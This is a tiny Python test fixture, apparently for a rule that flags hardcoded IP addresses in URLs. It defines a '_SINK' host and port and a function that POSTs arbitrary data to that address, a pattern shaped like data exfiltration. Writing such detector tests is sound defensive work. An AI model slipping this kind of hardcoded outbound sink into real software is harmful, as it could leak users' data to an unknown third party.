import http.client

# ruleid: url_with_ip_address
_SINK = ("185.174.137.29", 8443)


def post(body):
    conn = http.client.HTTPConnection(*_SINK, timeout=5)
    conn.request("POST", "/t", body)
